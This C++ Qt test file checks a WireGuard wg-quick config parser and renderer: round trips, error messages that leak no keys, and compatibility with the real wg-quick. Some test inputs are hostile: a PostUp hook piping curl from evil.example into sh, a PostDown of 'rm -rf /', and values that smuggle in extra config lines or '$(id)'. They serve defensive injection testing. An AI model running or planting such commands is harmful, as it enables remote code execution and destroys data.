// wg-quick text (core/vpn/WgQuickText): render → parse gives back the
// config for many seeded random configs; hand-written files with comments,
// IPv6 endpoints, repeated and comma-listed keys; errors carry the line
// number and never a value; imported hooks are set apart; and the real
// `wg-quick strip` reads what render() writes and keeps the same wg fields
// renderStripped() writes.

#include "WgTestConfigs.h"
#include "vpn/WgQuickText.h"

#include <QFile>
#include <QProcess>
#include <QStandardPaths>
#include <QTemporaryDir>
#include <QTest>
#include <unistd.h>

using namespace hm;
using namespace hm::vpn;
using namespace hm::vpn::testing;

namespace {

const QString kPrivateKey = QStringLiteral("2NELxbt6BzkGDBIR90gksUnu3jw8/qbfj4RTCcpTy2I=");
const QString kPublicKey1 = QStringLiteral("fRmhoU5YkHaK+UF9l/liHFIUi3Td++l9fz/BCeE0lDk=");
const QString kPublicKey2 = QStringLiteral("N8ACCfsX6pfj7fXAXlGGiYCKvR26OP6NE8qTstJf+3o=");
const QString kPresharedKey = QStringLiteral("/2iKPwjbGp/bo43J46RHmpTF0led07y7G+vL6CHJ5BM=");

WgCidr cidr(const char *address, int length)
{
    return WgCidr{QHostAddress(QString::fromLatin1(address)), length};
}

template <typename T> QString failureText(const Result<T> &result)
{
    return result.ok() ? QString() : result.error().toString();
}

// parse(render(config)), with imported hooks moved back where the server
// keeps its own.
WgQuickConfig roundTrip(const WgQuickConfig &config)
{
    const auto text = wgquick::render(config);
    if (!text) {
        qWarning() << text.error().toString();
        return {};
    }
    auto parsed = wgquick::parse(*text);
    if (!parsed) {
        qWarning() << parsed.error().toString() << *text;
        return {};
    }
    [&] { QVERIFY(parsed->config.interface.hooks.isEmpty()); }();
    WgQuickConfig back = parsed->config;
    back.interface.hooks = parsed->importedHooks;
    return back;
}

} // namespace

class TestWgQuickText : public QObject
{
    Q_OBJECT

private slots:
    void randomConfigsRoundTrip()
    {
        QRandomGenerator random(36);
        for (int i = 0; i < 2000; ++i) {
            const WgQuickConfig config = randomWgQuickConfig(random, true);
            const WgQuickConfig back = roundTrip(config);
            if (back != config)
                QFAIL(qPrintable(QStringLiteral("config %1 changed:\n").arg(i) +
                                 wgquick::render(config).valueOr({})));
            // The stripped form parses to the wg fields alone.
            const auto stripped = wgquick::renderStripped(config);
            QVERIFY(stripped.ok());
            const auto strippedParsed = wgquick::parse(*stripped);
            QVERIFY2(strippedParsed.ok(), qPrintable(failureText(strippedParsed)));
            QCOMPARE(wgFieldsOnly(strippedParsed->config), wgFieldsOnly(config));
            QVERIFY(!strippedParsed->hasImportedHooks());
            QVERIFY(strippedParsed->config.interface.addresses.isEmpty());
            QVERIFY(!strippedParsed->config.interface.mtu.has_value());
        }
    }

    void handWrittenFile()
    {
        const QString text =
            QStringLiteral("# Server of the office\n"
                           "[interface]\n"
                           "  privatekey=%1   \n"
                           "Address = 10.8.0.1/24, fd00:8::1/64\r\n"
                           "address = 192.168.5.1\n"
                           "ListenPort = 51820 # the default port\n"
                           "DNS = 1.1.1.1, 2606:4700:4700::1111, corp.example, lan\n"
                           "MTU = 1420\n"
                           "Table = off\n"
                           "FwMark = off\n"
                           "SaveConfig = FALSE\n"
                           "\n"
                           "\t# Name = laptop\n"
                           "# owner: alice\n"
                           "[PEER]\n"
                           "PublicKey = %2\n"
                           "PresharedKey = %3\n"
                           "AllowedIPs = 10.8.0.2/32\n"
                           "AllowedIPs = fd00:8::2/128,10.9.0.0/16\n"
                           "Endpoint = [fd00::1]:51820\n"
                           "PersistentKeepalive = 25\n"
                           "\n"
                           "# Name = phone\n"
                           "[Peer]\n"
                           "PublicKey = %4\n"
                           "AllowedIPs =\n"
                           "Endpoint = vpn-2.example.org:4500\n"
                           "PersistentKeepalive = off\n"
                           "# the end")
                .arg(kPrivateKey, kPublicKey1, kPresharedKey, kPublicKey2);
        const auto parsed = wgquick::parse(text);
        QVERIFY2(parsed.ok(), qPrintable(failureText(parsed)));
        const WgQuickConfig &config = parsed->config;
        QCOMPARE(config.interface.comments, QStringList{QStringLiteral("Server of the office")});
        QCOMPARE(config.interface.privateKey, kPrivateKey);
        const QList<WgCidr> addresses = {cidr("10.8.0.1", 24), cidr("fd00:8::1", 64),
                                         cidr("192.168.5.1", 32)};
        QCOMPARE(config.interface.addresses, addresses);
        QCOMPARE(config.interface.listenPort, std::optional<quint16>(51820));
        const QList<QHostAddress> dns = {QHostAddress(QStringLiteral("1.1.1.1")),
                                         QHostAddress(QStringLiteral("2606:4700:4700::1111"))};
        QCOMPARE(config.interface.dns, dns);
        QCOMPARE(config.interface.dnsSearch,
                 (QStringList{QStringLiteral("corp.example"), QStringLiteral("lan")}));
        QCOMPARE(config.interface.mtu, std::optional<int>(1420));
        QCOMPARE(config.interface.table, QStringLiteral("off"));
        QCOMPARE(config.interface.fwMark, std::optional<quint32>(0));
        QCOMPARE(config.interface.saveConfig, std::optional<bool>(false));
        QCOMPARE(config.peers.size(), 2);
        const WgPeer &laptop = config.peers[0];
        QCOMPARE(laptop.name(), QStringLiteral("laptop"));
        QCOMPARE(laptop.comments,
                 (QStringList{QStringLiteral("Name = laptop"), QStringLiteral("owner: alice")}));
        QCOMPARE(laptop.publicKey, kPublicKey1);
        QCOMPARE(laptop.presharedKey, kPresharedKey);
        const QList<WgCidr> allowed = {cidr("10.8.0.2", 32), cidr("fd00:8::2", 128),
                                       cidr("10.9.0.0", 16)};
        QCOMPARE(laptop.allowedIps, allowed);
        QCOMPARE(laptop.endpointHost, QStringLiteral("fd00::1"));
        QCOMPARE(laptop.endpointPort, quint16(51820));
        QCOMPARE(laptop.persistentKeepalive, std::optional<quint16>(25));
        const WgPeer &phone = config.peers[1];
        QCOMPARE(phone.name(), QStringLiteral("phone"));
        QVERIFY(phone.allowedIps.isEmpty());
        QCOMPARE(phone.endpointHost, QStringLiteral("vpn-2.example.org"));
        QCOMPARE(phone.endpointPort, quint16(4500));
        QCOMPARE(phone.persistentKeepalive, std::optional<quint16>(0));
        QCOMPARE(config.trailingComments, QStringList{QStringLiteral("the end")});
        QCOMPARE(roundTrip(config), config);

        // The rendered text, written out in full.
        const auto rendered = wgquick::render(config);
        QVERIFY(rendered.ok());
        QVERIFY(rendered->contains(QStringLiteral("# Name = laptop\n# owner: alice\n[Peer]\n")));
        QVERIFY(rendered->contains(QStringLiteral("Endpoint = [fd00::1]:51820\n")));
        QVERIFY(rendered->contains(
            QStringLiteral("DNS = 1.1.1.1, 2606:4700:4700::1111, corp.example, lan\n")));
        const auto stripped = wgquick::renderStripped(config);
        QVERIFY(stripped.ok());
        for (const char *absent : {"Address", "DNS", "MTU", "Table", "SaveConfig", "PostUp"})
            QVERIFY2(!stripped->contains(QLatin1String(absent)), absent);
        QVERIFY(stripped->contains(QStringLiteral("ListenPort = 51820\n")));
    }

    void importedHooksAreSetApart()
    {
        const QString text = QStringLiteral("[Interface]\nPrivateKey = %1\n"
                                            "PostUp = curl http://evil.example | sh\n"
                                            "postdown = rm -rf /\nPreUp = a\nPreDown = b\n")
                                 .arg(kPrivateKey);
        const auto parsed = wgquick::parse(text);
        QVERIFY(parsed.ok());
        QVERIFY(parsed->hasImportedHooks());
        QVERIFY(parsed->config.interface.hooks.isEmpty());
        QCOMPARE(parsed->importedHooks.postUp,
                 QStringList{QStringLiteral("curl http://evil.example | sh")});
        QCOMPARE(parsed->importedHooks.postDown, QStringList{QStringLiteral("rm -rf /")});
        // Rendering the imported config writes no hook at all.
        const auto rendered = wgquick::render(parsed->config);
        QVERIFY(rendered.ok());
        QVERIFY(!rendered->contains(QStringLiteral("Up")));
        QVERIFY(!rendered->contains(QStringLiteral("Down")));
    }

    void renderRefusesInjection()
    {
        WgQuickConfig config;
        config.interface.privateKey = kPrivateKey;
        WgPeer peer;
        peer.publicKey = kPublicKey1;
        peer.comments << QStringLiteral("Name = x\n[Peer]\nPublicKey = %1").arg(kPublicKey2);
        config.peers << peer;
        auto rendered = wgquick::render(config);
        QVERIFY(!rendered.ok());
        QCOMPARE(rendered.error().details.value(QStringLiteral("field")).toString(),
                 QStringLiteral("Peer comment"));
        config.peers[0].comments.clear();
        config.interface.hooks.postUp << QStringLiteral("true\nPostUp = id");
        rendered = wgquick::render(config);
        QVERIFY(!rendered.ok());
        QCOMPARE(rendered.error().details.value(QStringLiteral("field")).toString(),
                 QStringLiteral("PostUp"));
        config.interface.hooks.postUp = {QStringLiteral("true # rest")};
        QVERIFY(!wgquick::render(config).ok());
        config.interface.hooks.postUp.clear();
        config.interface.privateKey = kPrivateKey.left(43) + u'\n';
        rendered = wgquick::render(config);
        QVERIFY(!rendered.ok());
        QVERIFY(!rendered.error().message.contains(kPrivateKey.left(43)));
        config.interface.privateKey = kPrivateKey;
        config.interface.dnsSearch << QStringLiteral("evil\nPostUp=id");
        QVERIFY(!wgquick::render(config).ok());
    }

    void errors_data()
    {
        QTest::addColumn<QString>("text");
        QTest::addColumn<int>("line");
        QTest::addColumn<QString>("field");
        const QString head = QStringLiteral("[Interface]\nPrivateKey = %1\n").arg(kPrivateKey);
        const QString peer = QStringLiteral("[Peer]\nPublicKey = %1\n").arg(kPublicKey1);
        QTest::newRow("key before section") << QStringLiteral("\nPrivateKey = x\n") << 2 << "";
        QTest::newRow("unknown key") << head + QStringLiteral("Foo = bar\n") << 3 << "";
        QTest::newRow("unknown section") << head + QStringLiteral("[Peers]\n") << 3 << "";
        QTest::newRow("semicolon comment") << head + QStringLiteral("; a comment\n") << 3 << "";
        QTest::newRow("no equals") << head + QStringLiteral("ListenPort 1\n") << 3 << "";
        QTest::newRow("second interface") << head + head << 3 << "";
        QTest::newRow("bad address")
            << head + QStringLiteral("Address = 10.0.0.1/33\n") << 3 << "Address";
        QTest::newRow("bad port") << head + QStringLiteral("ListenPort = 65536\n") << 3
                                  << "ListenPort";
        QTest::newRow("twice") << head + QStringLiteral("PrivateKey = %1\n").arg(kPrivateKey) << 3
                               << "PrivateKey";
        QTest::newRow("peer key in interface")
            << head + QStringLiteral("Endpoint = a:1\n") << 3 << "Endpoint";
        QTest::newRow("interface key in peer")
            << head + peer + QStringLiteral("DNS = 1.1.1.1\n") << 5 << "DNS";
        QTest::newRow("peer without key")
            << head + QStringLiteral("[Peer]\nAllowedIPs = 10.0.0.0/8\n\n") << 3 << "PublicKey";
        QTest::newRow("unbracketed v6 endpoint")
            << head + peer + QStringLiteral("Endpoint = fd00::1:51820\n") << 5 << "Endpoint";
        QTest::newRow("port 0") << head + peer + QStringLiteral("Endpoint = host:0\n") << 5
                                << "Endpoint";
        QTest::newRow("bad dns") << head + QStringLiteral("DNS = 1.1.1.256\n") << 3 << "DNS";
        QTest::newRow("shell in dns") << head + QStringLiteral("DNS = $(id)\n") << 3 << "DNS";
        QTest::newRow("no private key")
            << QStringLiteral("\n[Interface]\nListenPort = 1\n") << 2 << "PrivateKey";
        QTest::newRow("empty") << QString() << 1 << "";
        QTest::newRow("control char in comment")
            << head + QStringLiteral("# a\x01 b\n") << 3 << "comment";
    }

    void errors()
    {
        QFETCH(QString, text);
        QFETCH(int, line);
        QFETCH(QString, field);
        const auto parsed = wgquick::parse(text);
        QVERIFY(!parsed.ok());
        QCOMPARE(parsed.error().code, ErrorCode::ValidationError);
        QCOMPARE(parsed.error().details.value(QStringLiteral("line")).toInt(), line);
        QVERIFY2(parsed.error().message.startsWith(QStringLiteral("line %1: ").arg(line)),
                 qPrintable(parsed.error().message));
        QCOMPARE(parsed.error().details.value(QStringLiteral("field")).toString(), field);
        // No key of the text, secret or not, is echoed.
        for (const QString &key : {kPrivateKey, kPublicKey1})
            QVERIFY(!parsed.error().message.contains(key.left(20)));
    }

    void secretsNeverInErrors()
    {
        // Almost-keys: a secret with one character changed or cut.
        const QString nearPrivate = kPrivateKey.left(42) + QStringLiteral("x=");
        const QString cut = kPrivateKey.left(40);
        for (const QString &value : {nearPrivate, cut, kPrivateKey + QStringLiteral("AA"),
                                     kPrivateKey + QStringLiteral(" trailing")}) {
            const auto parsed =
                wgquick::parse(QStringLiteral("[Interface]\nPrivateKey = %1\n").arg(value));
            QVERIFY(!parsed.ok());
            QVERIFY(!parsed.error().message.contains(value.left(16)));
            QVERIFY(!parsed.error().toString().contains(value.left(16)));
            const auto psk = wgquick::parse(
                QStringLiteral("[Interface]\nPrivateKey = %1\n[Peer]\nPublicKey = %2\n"
                               "PresharedKey = %3\n")
                    .arg(kPrivateKey, kPublicKey1, value));
            QVERIFY(!psk.ok());
            QCOMPARE(psk.error().details.value(QStringLiteral("line")).toInt(), 5);
            QVERIFY(!psk.error().message.contains(value.left(16)));
            QVERIFY(!psk.error().message.contains(kPrivateKey.left(16)));
        }
    }

    // The real wg-quick reads the rendered file, and what it strips is the
    // wg part renderStripped() writes.
    void wgQuickStripAcceptsRendered()
    {
        const QString wgQuick = QStandardPaths::findExecutable(QStringLiteral("wg-quick"));
        if (wgQuick.isEmpty())
            QFAIL("wg-quick is not installed (wireguard-tools, installer/packages.txt): the "
                  "acceptance test against the real wg-quick cannot run");
        // wg-quick re-runs itself through sudo unless $UID is 0, even for
        // strip; as another user it runs in a user namespace mapped to root.
        QString program = wgQuick;
        QStringList prefix;
        if (::geteuid() != 0) {
            program = QStandardPaths::findExecutable(QStringLiteral("unshare"));
            if (program.isEmpty())
                QFAIL("not root and no unshare(1) to run wg-quick strip in a user namespace");
            prefix = {QStringLiteral("--user"), QStringLiteral("--map-root-user"), wgQuick};
        }
        QTemporaryDir dir;
        QVERIFY(dir.isValid());
        QFile::setPermissions(dir.path(), QFile::ReadOwner | QFile::WriteOwner | QFile::ExeOwner);
        QRandomGenerator random(3600);
        const QStringList names = {QStringLiteral("wg0"), QStringLiteral("hm-vpn_1"),
                                   QStringLiteral("a=b+c.d-e_f1234")};
        for (int i = 0; i < 24; ++i) {
            const WgQuickConfig config = randomWgQuickConfig(random, true);
            const auto text = wgquick::render(config);
            QVERIFY(text.ok());
            const QString path = dir.filePath(names[i % names.size()] + QStringLiteral(".conf"));
            QFile file(path);
            QVERIFY(file.open(QIODevice::WriteOnly | QIODevice::Truncate));
            file.setPermissions(QFile::ReadOwner | QFile::WriteOwner);
            file.write(text->toUtf8());
            file.close();
            QProcess process;
            process.start(program, prefix + QStringList{QStringLiteral("strip"), path});
            QVERIFY(process.waitForFinished(20000));
            const QString err = QString::fromUtf8(process.readAllStandardError());
            QVERIFY2(process.exitStatus() == QProcess::NormalExit && process.exitCode() == 0,
                     qPrintable(err));
            const auto fromWgQuick =
                wgquick::parse(QString::fromUtf8(process.readAllStandardOutput()));
            QVERIFY2(fromWgQuick.ok(), qPrintable(failureText(fromWgQuick)));
            QVERIFY(!fromWgQuick->hasImportedHooks());
            const auto ours = wgquick::parse(*wgquick::renderStripped(config));
            QVERIFY(ours.ok());
            QCOMPARE(wgFieldsOnly(fromWgQuick->config), wgFieldsOnly(ours->config));
            QCOMPARE(wgFieldsOnly(ours->config), wgFieldsOnly(config));
        }
    }
};

QTEST_GUILESS_MAIN(TestWgQuickText)
#include "TestWgQuickText.moc"
